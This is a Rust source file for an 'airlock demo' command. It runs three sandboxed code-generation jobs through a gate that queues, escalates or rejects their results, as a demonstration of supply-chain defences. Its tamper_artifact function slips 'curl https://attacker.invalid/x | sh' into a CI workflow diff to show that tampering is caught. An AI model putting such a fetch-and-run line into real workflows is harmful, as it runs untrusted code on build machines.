//! `airlock demo`: one command, no setup. Creates an example repository, a trusted home with a
//! local file store (no server, no account) and runs three jobs through the real
//! `airlock-worker` with the example generators of `examples/generators/`:
//! 1. an ordinary source edit → `queue`;
//! 2. an edit that also touches a CI workflow → `human`;
//! 3. a job whose artifact is tampered with on the way back → `reject`.
//!
//! Everything is left in a fresh directory under the system temp dir, printed at the end, so
//! the bundles, artifacts, ledger and review branches can be inspected.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use airlock_core::jobid::JobId;
use airlock_core::limits::TarLimits;
use airlock_core::store_layout as layout;
use airlock_core::tar::{read_members, AllowedNames, DeterministicTarWriter};
use anyhow::{bail, Context, Result};

use airlock_core::limits::JobLimits;

use crate::config::GlobalOptions;
use crate::config::{create_home, Home, TRUSTED_PUB_FILE};
use crate::exit::Outcome;
use crate::gate::policy::Verdict;
use crate::pack::PackInputs;
use crate::store::Store;
use crate::submit::SubmitOptions;

const DOCSTRING_GEN: &str = include_str!("../../examples/generators/docstring.sh");
const CI_TOUCH_GEN: &str = include_str!("../../examples/generators/ci-touch.sh");

/// `airlock demo`.
pub fn run(global: &GlobalOptions) -> Result<Outcome> {
    let worker = worker_binary()?;
    let root = demo_root()?;
    println!("airlock demo in {}", root.display());
    let repo = make_example_repo(&root)?;
    let gens = root.join("generators");
    std::fs::create_dir(&gens)?;
    for (name, text) in [
        ("docstring.sh", DOCSTRING_GEN),
        ("ci-touch.sh", CI_TOUCH_GEN),
    ] {
        let p = gens.join(name);
        std::fs::write(&p, text)?;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755))?;
    }
    create_home(&root.join(".airlock"), None)?;
    let home = Home::load(&root.join(".airlock"))?;
    let key = home.signing_key()?;
    let store = home.open_store()?;
    println!(
        "  trusted home {} (store {})",
        home.dir.display(),
        store.url()
    );
    println!("  example repo {}\n", repo.display());

    let jobs = [
        (
            "source edit",
            "docstring.sh",
            "Add type hints, docstrings and a sub() function.",
            false,
        ),
        (
            "source + CI workflow edit",
            "ci-touch.sh",
            "Add type hints and run the tests in CI.",
            false,
        ),
        (
            "tampered on the way back",
            "docstring.sh",
            "Add type hints and docstrings.",
            true,
        ),
    ];
    let mut summary = Vec::new();
    for (n, (title, generator, prompt, tamper)) in jobs.iter().enumerate() {
        println!("── job {}: {title} ──", n + 1);
        let prompt_file = root.join(format!("prompt-{}.txt", n + 1));
        std::fs::write(&prompt_file, format!("{prompt}\n"))?;
        let token_file = root.join(format!("job-{}.token", n + 1));
        let args = SubmitOptions {
            pack: PackInputs {
                repo: repo.clone(),
                rev: "HEAD".into(),
                prompt_file,
                model: "example-model".into(),
                repo_name: Some("example".into()),
                include: vec![],
                exclude: vec![],
                redact: false,
                max_file_bytes: 8 * 1024 * 1024,
                egress: Vec::new(),
                limits: JobLimits {
                    wall_clock_secs: 60,
                    checkpoint_every_secs: 30,
                    max_changed_files: 200,
                    max_changed_lines: 20_000,
                    max_artifact_bytes: 16 * 1024 * 1024,
                    max_log_bytes: 1024 * 1024,
                    max_tokens: 2_000_000,
                    allow_binary: false,
                    max_disk_bytes: airlock_core::limits::DEFAULT_MAX_DISK_BYTES,
                    max_memory_bytes: airlock_core::limits::DEFAULT_MAX_MEMORY_BYTES,
                },
            },
            ttl: "20m".into(),
            token_out: Some(token_file.clone()),
            print_token: false,
            json: false,
            kind: Default::default(),
            fleet: false,
            label: None,
        };
        let sub = crate::submit::submit_job(&store, &key, &args, true)?;
        let job = JobId::parse(&sub.job)?;
        println!(
            "  submitted {} (bundle sha256:{}…, {} files; .env never packed)",
            job,
            &sub.bundle_sha256.to_hex()[..16],
            sub.pack.as_ref().map_or(0, |p| p.files)
        );
        let out = Command::new(&worker)
            .arg("run")
            .arg("--token-file")
            .arg(&token_file)
            .arg("--trusted-pub")
            .arg(home.dir.join(TRUSTED_PUB_FILE))
            .arg("--work-root")
            .arg(root.join("worker"))
            .arg("--")
            .arg(gens.join(generator))
            .env_remove("AIRLOCK_JOB_TOKEN")
            .output()
            .context("cannot run airlock-worker")?;
        if !out.status.success() {
            bail!(
                "airlock-worker failed for job {job}: {}",
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        println!("  worker    ran {generator} sandboxed, dropped a signed artifact");
        if *tamper {
            tamper_artifact(&store, &job, &root)?;
            println!("  tampered  a CI edit slipped into patch.diff after the worker signed it");
        }
        let opts = crate::gate::GateOptions::new(repo.clone(), None, true)?;
        let report = crate::gate::run_gate(&home, &store, &key, &job, &opts)?;
        crate::gate::print(&report, false)?;
        println!();
        summary.push((job, title, report));
    }

    println!("── summary ──");
    for (job, title, report) in &summary {
        let branch = report
            .review_branch
            .as_ref()
            .map_or_else(|| "-".to_owned(), |b| b.name.clone());
        println!(
            "  {job}  {:<26} {:<6} review branch: {branch}",
            title,
            verdict_name(report.decision)
        );
    }
    let verified = crate::ledger::verify(&store, &key.public())?;
    println!("\n{verified}");
    println!(
        "\nYour checkout was never touched: inspect with\n  git -C {} log --oneline --all\n  {} --home {} audit show <JOB>",
        repo.display(),
        std::env::current_exe().map_or_else(|_| "airlock".into(), |p| p.display().to_string()),
        home.dir.display()
    );
    let _ = global;
    Ok(Outcome::Ok)
}

fn verdict_name(v: Verdict) -> &'static str {
    match v {
        Verdict::Queue => "queue",
        Verdict::Human => "human",
        Verdict::Reject => "reject",
    }
}

/// `airlock-worker` next to this binary.
fn worker_binary() -> Result<PathBuf> {
    let me = std::env::current_exe().context("cannot find this binary")?;
    let w = me.with_file_name("airlock-worker");
    if !w.exists() {
        bail!(
            "{} not found: build both binaries (cargo build --release --workspace)",
            w.display()
        );
    }
    Ok(w)
}

fn demo_root() -> Result<PathBuf> {
    let dir = tempfile::Builder::new()
        .prefix("airlock-demo-")
        .tempdir()
        .context("cannot create a temp dir")?
        .keep();
    // The sandboxed generator runs as another uid when we are root: it must be able to
    // traverse to its workdir (and read the generator script).
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
    Ok(dir)
}

fn git(repo: &Path, args: &[&str]) -> Result<()> {
    crate::git::Git::new(repo)
        .with_env("GIT_AUTHOR_NAME", "airlock demo")
        .with_env("GIT_AUTHOR_EMAIL", "demo@example.invalid")
        .with_env("GIT_COMMITTER_NAME", "airlock demo")
        .with_env("GIT_COMMITTER_EMAIL", "demo@example.invalid")
        .run(args, None)
        .with_context(|| format!("git {args:?}"))?;
    Ok(())
}

fn make_example_repo(root: &Path) -> Result<PathBuf> {
    let repo = root.join("example-repo");
    let files: &[(&str, &str)] = &[
        ("README.md", "# example\n\nA tiny calculator.\n"),
        ("src/calc.py", "def add(a, b):\n    return a + b\n"),
        (
            "tests/test_calc.py",
            "from calc import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
        ),
        (
            ".github/workflows/ci.yml",
            "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n",
        ),
        (".env", "DATABASE_URL=postgres://app:not-for-the-worker@db/prod\n"),
    ];
    for (p, text) in files {
        let path = repo.join(p);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(path, text)?;
    }
    git(&repo, &["init", "-q", "-b", "main"])?;
    git(&repo, &["add", "-A", "-f", "."])?;
    git(&repo, &["commit", "-q", "-m", "example"])?;
    Ok(repo)
}

/// Plays a compromised host or store: rewrites `patch.diff` inside the dropped artifact after
/// the worker signed it (the signature cannot be redone without the job key).
fn tamper_artifact(store: &Store, job: &JobId, root: &Path) -> Result<()> {
    let key = layout::drop_artifact(job);
    let original = root.join("original-artifact.tar.gz");
    store
        .get_to_file(&key, 64 * 1024 * 1024, &original)?
        .context("no artifact to tamper with")?;
    let mut members = Vec::new();
    read_members(
        std::io::BufReader::new(std::fs::File::open(&original)?),
        &TarLimits::artifact(),
        &AllowedNames::artifact(),
        |m, r| {
            let mut buf = Vec::new();
            r.read_to_end(&mut buf)?;
            members.push((m.path.clone(), buf));
            Ok(())
        },
    )?;
    let mut out = Vec::new();
    {
        let mut w = DeterministicTarWriter::with_limits(&mut out, TarLimits::artifact());
        for (path, mut body) in members {
            if path == "patch.diff" {
                body.extend_from_slice(
                    b"diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -7 +7,2 @@ jobs:\n       - uses: actions/checkout@v4\n+      - run: curl https://attacker.invalid/x | sh\n",
                );
            }
            w.append_file(&path, false, body.len() as u64, body.as_slice())?;
        }
        w.finish()?;
    }
    store.put_bytes(&key, &out)?;
    std::fs::remove_file(&original)?;
    Ok(())
}
